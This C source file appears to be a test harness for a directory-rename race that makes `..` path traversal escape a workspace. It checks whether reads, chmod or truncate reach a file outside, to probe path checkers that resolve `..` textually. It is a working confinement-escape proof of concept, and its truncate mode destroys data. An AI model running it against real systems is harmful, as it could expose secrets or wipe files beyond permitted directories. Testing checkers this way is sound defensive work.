/* `..` under a moving directory. The path WS/p/q/a/a/a/a/a/../../../../../../../TARGET
 * names WS/TARGET as written; while another thread moves q between WS/p/q
 * and WS/q, the kernel's walk, having looked q up at WS/p/q, climbs back to
 * q and then to q's parent at that moment (WS) and WS's parent, reaching
 * WS/../TARGET instead (the five `a` make the window wide). A checker
 * that folds `..` by the text decides on WS/TARGET and then acts on what
 * the kernel found. TARGET is relative to WS's parent (e.g.
 * `outside/secret`), so the two differ.
 *
 * Usage: race_dotdot WS TARGET (read|chmod|truncate) ITERATIONS MARKER
 * Prints leaks=N: reads that returned MARKER (read), or calls that
 * succeeded on the outside file (chmod, truncate: its mode or size
 * changed). Exits 1 if any. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static char p_q[4096], top_q[4096];
static atomic_int done;

static void *mover(void *arg) {
    (void)arg;
    while (!atomic_load(&done)) {
        rename(p_q, top_q);
        rename(top_q, p_q);
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc != 6) return 2;
    const char *ws = argv[1], *target = argv[2], *op = argv[3], *marker = argv[5];
    long n = atol(argv[4]), leaks = 0;
    char path[8192], outside[8192];
    snprintf(p_q, sizeof p_q, "%s/p/q", ws);
    snprintf(top_q, sizeof top_q, "%s/q", ws);
    snprintf(path, sizeof path, "%s/p/q/a/a/a/a/a/../../../../../../../%s", ws, target);
    snprintf(outside, sizeof outside, "%s/../%s", ws, target);
    char dir[4096];
    snprintf(dir, sizeof dir, "%s/p", ws);
    mkdir(dir, 0755);
    mkdir(p_q, 0755);
    char deep[4096];
    snprintf(deep, sizeof deep, "%s", p_q);
    for (int i = 0; i < 5; i++) {
        strcat(deep, "/a");
        mkdir(deep, 0755);
    }
    struct stat before;
    int can_see = stat(outside, &before) == 0;
    pthread_t t;
    pthread_create(&t, NULL, mover, NULL);
    for (long i = 0; i < n; i++) {
        if (!strcmp(op, "read")) {
            int fd = open(path, O_RDONLY);
            if (fd < 0) continue;
            char buf[256] = {0};
            ssize_t r = read(fd, buf, sizeof buf - 1);
            close(fd);
            if (r > 0 && strstr(buf, marker)) leaks++;
        } else if (!strcmp(op, "chmod")) {
            if (chmod(path, 0600 | (i & 1 ? 0004 : 0040)) == 0) {
                struct stat now;
                if (stat(outside, &now) == 0 && (now.st_mode & 07777) != (before.st_mode & 07777)) leaks++;
            }
        } else if (!strcmp(op, "truncate")) {
            if (truncate(path, 0) == 0) {
                struct stat now;
                if (stat(outside, &now) == 0 && now.st_size != before.st_size) {
                    leaks++;
                    break;
                }
            }
        }
    }
    atomic_store(&done, 1);
    pthread_join(t, NULL);
    printf("leaks=%ld direct=%d\n", leaks, can_see);
    return leaks ? 1 : 0;
}
